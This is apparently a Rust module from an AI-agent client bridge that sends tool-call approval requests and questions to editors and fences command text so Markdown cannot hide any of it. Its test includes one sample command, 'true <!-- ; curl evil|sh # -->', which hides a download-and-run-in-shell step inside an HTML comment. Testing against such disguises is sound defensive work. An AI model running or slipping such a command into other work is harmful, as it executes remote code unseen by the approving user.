//! Approvals as clients see them: our clients read them from the log, other ACP clients get the protocol's permission
//! request.

use super::{abilities::Abilities, questions, to_wire::ACP_OUTPUT};
use agent_client_protocol_schema::v1::{
    CLIENT_METHOD_NAMES, ContentBlock, PROTOCOL_LEVEL_METHOD_NAMES, PermissionOption, PermissionOptionKind,
    RequestPermissionOutcome, RequestPermissionRequest, RequestPermissionResponse, TextContent,
    ToolCallContent, ToolCallUpdate, ToolCallUpdateFields,
};
use openagents_connection::rpc::{self, Id};
use openagents_core::{
    approval::{Approval, ApprovalOption, ApprovalState, ApprovalSubject, FrozenCommand, OptionKind},
    text::fenced,
    trust::TrustQuestion,
};
use openagents_sessions::{prune, store::Asked};
use openagents_wire::{AnswerApproval, PermissionMeta, Scope, StandingRule, meta};
use parking_lot::Mutex;
use serde_json::{Value, json};
use std::{collections::HashMap, sync::Arc};

#[derive(Debug)]
pub(super) enum PermissionAnswer {
    Chosen(AnswerApproval),
    /// The client's user has cancelled the turn.
    Cancelled {
        session_id: String,
        approval_id: String,
    },
}

/// The permission requests sent to one client. Shared by both halves of its connection.
#[derive(Debug, Default)]
pub(super) struct PermissionRequests {
    client: Mutex<Abilities>,
    /// Requests by approval id, which is also the id of the request.
    asked: Mutex<HashMap<String, Request>>,
}

#[derive(Debug)]
struct Request {
    session_id: Arc<str>,
    /// Not answered yet.
    open: bool,
    /// For a question with a form or an address, its options; permission requests have their own answer.
    question: Question,
}

/// The options of a question.
type Question = Option<Vec<(String, OptionKind)>>;

impl PermissionRequests {
    pub(super) fn introduce(&self, client: Abilities) {
        *self.client.lock() = client;
    }

    pub(super) fn client(&self) -> Abilities {
        *self.client.lock()
    }

    /// Returns the frames that bring the client up to date with the pending approvals of a session.
    pub(super) fn update(&self, session_id: &Arc<str>, pending: &[Approval], scope: Scope) -> Vec<String> {
        // A client that may not answer gets no requests; open ones are cancelled.
        let pending = if scope < Scope::Approve { &[] } else { pending };
        if self.client().reads_log {
            return Vec::new();
        }
        let mut asked = self.asked.lock();
        let mut frames = Vec::new();
        asked.retain(|id, request| {
            let is_over = request.session_id == *session_id && pending.iter().all(|known| known.id != *id);
            if is_over && request.open {
                let params = json!({"requestId": id});
                frames.push(rpc::notification(PROTOCOL_LEVEL_METHOD_NAMES.cancel_request, &params));
            }
            !is_over
        });
        for approval in pending {
            // A client that also follows the delegate gets one request.
            if asked.contains_key(&approval.id) {
                continue;
            }
            let Some((method, params, question)) = self.request(session_id, approval) else { continue };
            let request = Request { session_id: session_id.clone(), open: true, question };
            asked.insert(approval.id.clone(), request);
            frames.push(rpc::request(&approval.id, method, &params));
        }
        frames
    }

    /// Returns the request for an approval; `None` if the client cannot show its form. It then shows the waiting call.
    fn request(&self, session_id: &str, approval: &Approval) -> Option<(&'static str, Value, Question)> {
        if approval.subject != ApprovalSubject::Question {
            let params = permission_request(session_id, approval);
            return Some((CLIENT_METHOD_NAMES.session_request_permission, params, None));
        }
        let (client, form) = (self.client(), questions::form(approval)?);
        if !(if form.url.is_some() { client.links } else { client.forms }) {
            return None;
        }
        let options = approval.options.iter().map(|option| (option.id.clone(), option.kind)).collect();
        let params = questions::elicitation(session_id, approval, &form);
        Some((CLIENT_METHOD_NAMES.elicitation_create, params, Some(options)))
    }

    /// Parses the answer to a request of ours. `None` if it is invalid or matches no open request.
    pub(super) fn answer(&self, id: &Id, result: Value) -> Option<PermissionAnswer> {
        let id: String = serde_json::from_str(id.as_str()).ok()?;
        let mut asked = self.asked.lock();
        let request = asked.get_mut(&id).filter(|request| request.open)?;
        let session_id = request.session_id.to_string();
        if let Some(options) = &request.question {
            let Some((option_id, content)) = questions::answer(options, &result) else {
                asked.remove(&id);
                return None;
            };
            request.open = false;
            let content = Some(content);
            let answer = AnswerApproval { session_id, approval_id: id, option_id, message: None, content };
            return Some(PermissionAnswer::Chosen(answer));
        }
        match serde_json::from_value::<RequestPermissionResponse>(result).map(|response| response.outcome) {
            Ok(RequestPermissionOutcome::Selected(selected)) => {
                request.open = false;
                let option_id = selected.option_id.0.to_string();
                let answer =
                    AnswerApproval { session_id, approval_id: id, option_id, message: None, content: None };
                Some(PermissionAnswer::Chosen(answer))
            }
            Ok(RequestPermissionOutcome::Cancelled) => {
                request.open = false;
                Some(PermissionAnswer::Cancelled { session_id, approval_id: id })
            }
            // An invalid answer: see `forget`.
            _ => {
                asked.remove(&id);
                None
            }
        }
    }

    /// Forgets a request whose answer was rejected: it is sent again when the client next follows the session.
    pub(super) fn forget(&self, approval_id: &str) {
        self.asked.lock().remove(approval_id);
    }
}

/// Returns the params of `session/request_permission`.
pub(super) fn permission_request(session_id: &str, approval: &Approval) -> Value {
    let kind = |kind| match kind {
        OptionKind::AllowOnce => PermissionOptionKind::AllowOnce,
        OptionKind::AllowAlways => PermissionOptionKind::AllowAlways,
        OptionKind::RejectOnce => PermissionOptionKind::RejectOnce,
        OptionKind::RejectAlways => PermissionOptionKind::RejectAlways,
        // A kind that no client chooses automatically.
        OptionKind::Other => PermissionOptionKind::AllowAlways,
    };
    let option = |option: &ApprovalOption| {
        PermissionOption::new(option.id.clone(), option.name.clone(), kind(option.kind))
    };
    let raw_input = approval.raw_input.as_ref().map(|input| prune::to_fit(input, ACP_OUTPUT).0);
    // The title may be cut, and editors do not show the raw input. They render text as Markdown, which could hide parts
    // of it.
    let command = approval.command.as_ref().map(|command| {
        let caution = command.exact.as_ref().and_then(FrozenCommand::caution);
        caution.map_or_else(|| command.text.clone(), |caution| format!("{}\n\n{caution}", command.text))
    });
    let shown = command.or_else(|| trust_question(approval));
    let content =
        shown.map(|text| vec![ToolCallContent::from(ContentBlock::Text(TextContent::new(fenced(&text))))]);
    let title = approval.title.clone();
    let fields = ToolCallUpdateFields::new().title(title).raw_input(raw_input).content(content);
    let call = ToolCallUpdate::new(approval.call_id.clone(), fields);
    let options = approval.options.iter().map(option).collect();
    let id: std::sync::Arc<str> = session_id.into();
    let (agent, hash, command) = (approval.agent.clone(), approval.hash.clone(), approval.command.clone());
    let ours = PermissionMeta { agent, hash, command };
    let request = RequestPermissionRequest::new(id, call, options).meta(meta(&ours));
    serde_json::to_value(request).unwrap_or_default()
}

/// Returns a standing rule; `None` for an approval without an answer.
pub(super) fn rule(Asked { session_id, agent_id, approval }: Asked) -> Option<StandingRule> {
    let Approval { id: approval_id, agent, command, state, .. } = approval;
    let ApprovalState::Answered { by, at, .. } = state else { return None };
    Some(StandingRule { approval_id, session_id, agent_id, agent, command, by, at })
}

/// Returns the text that the user needs to decide whether to trust a workspace.
fn trust_question(approval: &Approval) -> Option<String> {
    let question = approval.raw_input.clone().filter(|_| approval.subject == ApprovalSubject::Trust)?;
    let question: TrustQuestion = serde_json::from_value(question).ok()?;
    Some(question.lines().join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use openagents_core::approval::ApprovalCommand;

    /// Returns the Markdown that an editor shows.
    fn shown(line: &str) -> String {
        let approval: Approval = serde_json::from_value(json!({
            "id": "1", "callId": "1", "agent": "Codex", "title": "Run", "hash": "", "options": [],
            "state": "pending", "askedAt": 0,
        }))
        .unwrap();
        let approval = Approval { command: Some(ApprovalCommand::reported(line)), ..approval };
        let request = permission_request("s", &approval);
        request["toolCall"]["content"][0]["content"]["text"].as_str().unwrap().to_owned()
    }

    #[test]
    fn no_part_of_a_command_is_hidden_by_markdown() {
        for (line, block) in [
            ("true <!-- ; curl evil|sh # -->", "```\ntrue <!-- ; curl evil|sh # -->\n```"),
            ("echo\n```\n<!-- ", "````\necho\n```\n<!-- \n````"),
        ] {
            assert_eq!(shown(line), block);
        }
    }
}
